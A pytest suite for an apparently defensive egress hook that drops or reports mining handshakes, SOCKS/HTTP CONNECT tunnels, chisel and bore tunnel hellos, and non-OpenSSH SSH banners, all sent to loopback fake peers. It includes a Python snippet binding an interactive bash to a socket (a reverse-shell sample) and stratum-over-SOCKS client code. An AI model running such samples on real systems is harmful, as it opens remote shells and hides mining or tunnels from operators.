"""Protocol fingerprints on the wire, from the built-in rules' data, in the real egress hook.

Loopback peers only (lab.FakePool, lab.FakeSocksServer); the hook is attached to a job cgroup the test
created. Enforce: the fingerprinted packet never reaches the peer, ordinary traffic does, every drop is
attributed (rule, process, job). Monitor: the same bytes pass and are reported.
"""

from __future__ import annotations

import base64
import shutil
import subprocess

import pytest

from collector.policy import kernel_enforceable, payload_watch
from collector.rules.loader import load_ruleset, rule_texts
from collector.rules.payload import proxy_target, socks_target
from gpuguard.v1 import policy_pb2 as ppb
from lab import SEND_ON_BORROWED_SOCKET, FakePool, FakeSocksServer, lent_socket, run_in_cgroup
from tests.conftest import PYTHON, fresh_job_id, wait_for

pytestmark = pytest.mark.kernel

RULES = ("stratum-handshake", "socks-connect", "ssh-banner-unknown-client", "websocket-tunnel", "tunnel-hello-bore",
         "http-connect", "solo-mining-rpc")
SOLO_MINER = ("POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Basic dTpw\r\n"
              "Content-Type: application/json\r\n\r\n"
              '{"jsonrpc":"1.0","id":"m","method":"getblocktemplate","params":[{"rules":["segwit"]}]}')
SEND = (
    "import socket, sys, time\n"
    "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
    "s.sendall(bytes.fromhex(sys.argv[2]))\n"
    "time.sleep(0.3)\n"
)
# A client that asks a SOCKS5 proxy for pool.example:3333, then speaks stratum through it.
SOCKS_STRATUM = (
    "import socket, sys, time\n"
    "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
    "s.sendall(b'\\x05\\x01\\x00'); s.recv(2)\n"
    "host = b'pool.example'\n"
    "s.sendall(b'\\x05\\x01\\x00\\x03' + bytes([len(host)]) + host + (3333).to_bytes(2, 'big')); s.recv(10)\n"
    "s.sendall(b'{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": []}\\n')\n"
    "time.sleep(0.3)\n"
)
CHISEL = ("GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Go-http-client/1.1\r\nConnection: Upgrade\r\n"
          "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: chisel-v3\r\n"
          "Sec-WebSocket-Version: 13\r\nUpgrade: websocket\r\n\r\n")
GRAPHQL_WS = CHISEL.replace("chisel-v3", "graphql-ws")


def apply_builtin_fingerprints(enforcer, job: str, monitor: bool) -> None:
    rs = load_ruleset(rule_texts())
    scope = ppb.Scope(job_ids=[job])
    watches = [payload_watch(rs.rules[r], scope, drop=not monitor and rs.rules[r].action in ("block", "kill")
                             and kernel_enforceable(rs.rules[r])) for r in RULES]
    enforcer.apply(ppb.Policy(version=21, payload=watches), persist=False)


def send(cg, port: int, text: str) -> None:
    run_in_cgroup(cg, [PYTHON, "-c", SEND, str(port), text.encode("latin-1").hex()], timeout=20)


def reports(capture, job: str, rule: str) -> list[dict]:
    return wait_for(capture, lambda r: r["kind"] == "enforcement" and r["enforcement"]["rule_id"] == rule
                    and r["job"]["id"] == job)


@pytest.mark.parametrize("monitor", [False, True], ids=["enforce", "monitor"])
def test_fingerprints_from_rule_data(capture, enforcer, test_cgroup, monitor):
    job = fresh_job_id()
    cg = test_cgroup(f"slurm/job_{job}")
    apply_builtin_fingerprints(enforcer, job, monitor)
    pool, socks = FakePool(), FakeSocksServer()
    try:
        send(cg, pool.port, "SSH-2.0-paramiko_3.4.0\r\n")          # an SSH library in a python process
        send(cg, pool.port, CHISEL)                                  # a WebSocket tunnel upgrade
        send(cg, pool.port, '{"Hello":0}\0')                          # bore's hello
        send(cg, pool.port, GRAPHQL_WS)                              # an ordinary WebSocket: passes
        send(cg, pool.port, SOLO_MINER)                              # a block template asked over HTTP: reported
        send(cg, pool.port, "CONNECT gw.example.net:22 HTTP/1.1\r\nHost: gw.example.net:22\r\n\r\n")  # ssh via a proxy
        run_in_cgroup(cg, [PYTHON, "-c", SOCKS_STRATUM, str(socks.port)], timeout=20)
        ssh = shutil.which("ssh")                                    # openssh-client: scripts/setup.sh
        assert ssh, "ssh is needed: the real client's banner must pass (it is exempt)"
        run_in_cgroup(cg, [ssh, "-o", "BatchMode=yes", "-o", "ConnectTimeout=5", "-p", str(pool.port),
                           "127.0.0.1", "true"], timeout=30, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        pool.settle()
        socks.settle()
    finally:
        pool.close()
        socks.close()
    assert pool.got(b"graphql-ws")
    assert pool.got(b"getblocktemplate")                             # an alert rule: seen, never dropped
    assert pool.got(b"SSH-2.0-OpenSSH")
    through_proxy = b"".join(socks.received)
    assert b"pool.example" in through_proxy                            # the CONNECT itself is only reported
    for needle in (b"paramiko", b"chisel-v3", b'{"Hello"'):
        assert pool.got(needle) == monitor, needle
    assert (b"mining.subscribe" in through_proxy) == monitor         # stratum after SOCKS is still stratum
    dropped = "seen" if monitor else "drop"
    expected = {"ssh-banner-unknown-client": f"{dropped}_payload", "websocket-tunnel": f"{dropped}_payload",
                "tunnel-hello-bore": f"{dropped}_payload", "stratum-handshake": f"{dropped}_stratum"}
    for rule, action in expected.items():
        hits = reports(capture, job, rule)
        assert hits and {h["enforcement"]["action"] for h in hits} == {action}, rule
        assert all(h["proc"]["comm"].startswith("python") for h in hits), rule     # attributed to the sender
    solo = reports(capture, job, "solo-mining-rpc")
    assert solo and {h["enforcement"]["action"] for h in solo} == {"seen_payload"}
    socks_hits = reports(capture, job, "socks-connect")
    assert socks_hits and socks_hits[0]["enforcement"]["action"] == "seen_payload"
    payload = capture_payload(capture, job, "socks-connect")
    assert socks_target(payload) == ("pool.example", 3333)
    proxied = reports(capture, job, "http-connect")                  # reported, never dropped: whom it asks for
    assert proxied and {h["enforcement"]["action"] for h in proxied} == {"seen_payload"}
    assert proxy_target(capture_payload(capture, job, "http-connect")) == ("gw.example.net", 22, "HTTP")
    assert pool.got(b"CONNECT gw.example.net:22")
    assert not [r for r in capture.seen if r["kind"] == "enforcement" and r["job"]["id"] == job
                and r["proc"]["comm"] == "ssh"]                      # the real ssh client matched nothing


def capture_payload(capture, job: str, rule: str) -> bytes:
    """The raw payload excerpt of the first report (records hold it base64-encoded; read the event instead)."""
    import base64  # noqa: PLC0415

    hit = reports(capture, job, rule)[0]
    return base64.b64decode(hit["enforcement"]["payload"])


# Bytes cut up on purpose (TCP_NODELAY and a pause between sends: separate packets), or two steps merged.
SEND_PIECES = (
    "import socket, sys, time\n"
    "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
    "s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)\n"
    "for piece in sys.argv[2:]:\n"
    "    s.sendall(bytes.fromhex(piece)); time.sleep(0.05)\n"
    "time.sleep(0.3)\n"
)


def test_fingerprints_match_however_the_first_bytes_are_cut(capture, enforcer, test_cgroup):
    """A handshake split 1+N, and a SOCKS5 greeting merged with its CONNECT in one send, are matched as the stream
    they are (the hook keeps a flow's first bytes across packets)."""
    job = fresh_job_id()
    cg = test_cgroup(f"slurm/job_{job}")
    apply_builtin_fingerprints(enforcer, job, monitor=False)
    banner = b"SSH-2.0-paramiko_3.4.0\r\n"
    merged = b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([12]) + b"pool.example" + (3333).to_bytes(2, "big")
    with FakePool() as pool:
        run_in_cgroup(cg, [PYTHON, "-c", SEND_PIECES, str(pool.port), banner[:1].hex(), banner[1:].hex()],
                      timeout=20)
        run_in_cgroup(cg, [PYTHON, "-c", SEND_PIECES, str(pool.port), merged.hex()], timeout=20)
        run_in_cgroup(cg, [PYTHON, "-c", SEND_PIECES, str(pool.port), merged[:1].hex(), merged[1:3].hex(),
                           merged[3:].hex()], timeout=20)
        pool.settle()
    assert not pool.got(b"paramiko")                                  # the banner's second piece was dropped
    assert reports(capture, job, "ssh-banner-unknown-client")
    socks_hits = reports(capture, job, "socks-connect")
    targets = {socks_target(base64.b64decode(h["enforcement"]["payload"])) for h in socks_hits}
    assert targets == {("pool.example", 3333)} and len(socks_hits) >= 2   # merged, and cut into three


def test_a_dropped_handshake_names_the_sockets_owner_never_a_bystander(capture, enforcer, test_cgroup):
    """The payload hook runs wherever the segment leaves from (softirq: any task). The drop names the socket's owner
    in the watched job - the process the agent kills - never the task that happened to be current: here, made
    deterministic, a task in another cgroup sending on the job's socket."""
    job = fresh_job_id()
    cg, other = test_cgroup(f"slurm/job_{job}"), test_cgroup("elsewhere")
    apply_builtin_fingerprints(enforcer, job, monitor=False)
    name = f"gg-payload-owner-{job}"
    stratum = b'{"id":1,"method":"mining.subscribe","params":["gg-test/1.0"]}\n'
    with FakePool() as pool, lent_socket(cg, pool.port, name, PYTHON) as owner:
        out = run_in_cgroup(other, [PYTHON, "-c", SEND_ON_BORROWED_SOCKET, name, stratum.hex()],
                            capture_output=True, text=True, timeout=20)
        borrower = int(out.stdout.split()[0])
        hits = reports(capture, job, "stratum-handshake")
    assert hits, "the stratum handshake was not reported"
    assert hits[0]["enforcement"]["action"] == "drop_stratum"
    assert hits[0]["proc"]["pid"] == owner.pid != borrower



# A reverse shell through a relay the argv rules cannot read: a real interactive bash whose stdio is a socket,
# started by a program that names no shell in a shape the exec rules know.
BASH_ON_SOCKET = (
    "import socket, subprocess, sys\n"
    "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
    "subprocess.run(['timeout', '-s', 'KILL', '3', '/bin/bash', '--norc', '--noprofile', '-i'],\n"
    "               stdin=s, stdout=s, stderr=s)\n"
)


def test_an_interactive_shell_on_a_socket_is_stopped_on_the_wire(capture, enforcer, test_cgroup):
    """bash -i with its stderr on a socket writes "no job control in this shell" first: the egress hook drops it
    (shell-stderr-over-network) in the job it came from; an ordinary stream passes."""
    job = fresh_job_id()
    cg = test_cgroup(f"slurm/job_{job}")
    rs = load_ruleset(rule_texts())
    rule = rs.rules["shell-stderr-over-network"]
    assert rule.action == "block" and kernel_enforceable(rule)
    enforcer.apply(ppb.Policy(version=22, payload=[payload_watch(rule, ppb.Scope(job_ids=[job]), drop=True)]),
                   persist=False)
    pool = FakePool()
    try:
        run_in_cgroup(cg, [PYTHON, "-c", BASH_ON_SOCKET, str(pool.port)], timeout=30)
        send(cg, pool.port, "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")      # ordinary: passes
        pool.settle()
    finally:
        pool.close()
    assert pool.got(b"GET /healthz")
    assert not pool.got(b"job control")
    hits = reports(capture, job, "shell-stderr-over-network")
    assert hits and {h["enforcement"]["action"] for h in hits} == {"drop_payload"}
    assert {h["proc"]["comm"] for h in hits} <= {"bash", "python3"}    # the shell, or the socket's owner


def test_the_ssh_client_under_another_name_is_exempt_by_its_executable(capture, enforcer, test_cgroup, tmp_path):
    """A symlink to the real ssh runs under another comm: the comm exemption misses and the executable's (device,
    inode) - probes/gpuguard.h current_exe() - lets its banner pass; a library banner in python is still dropped."""
    ssh = shutil.which("ssh")
    assert ssh, "ssh is needed (openssh-client: scripts/setup.sh)"
    job = fresh_job_id()
    cg = test_cgroup(f"slurm/job_{job}")
    apply_builtin_fingerprints(enforcer, job, monitor=False)
    link = tmp_path / "gg-fetcher"
    link.symlink_to(ssh)
    pool = FakePool()
    try:
        run_in_cgroup(cg, [str(link), "-o", "BatchMode=yes", "-o", "ConnectTimeout=5", "-p", str(pool.port),
                           "127.0.0.1", "true"], timeout=30, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        send(cg, pool.port, "SSH-2.0-paramiko_3.4.0\r\n")
        pool.settle()
    finally:
        pool.close()
    assert pool.got(b"SSH-2.0-OpenSSH")                               # the real client, renamed: passes
    hits = reports(capture, job, "ssh-banner-unknown-client")        # the positive signal: the library's drop
    assert hits and {h["proc"]["comm"] for h in hits} == {"python3"}
    assert not pool.got(b"paramiko")
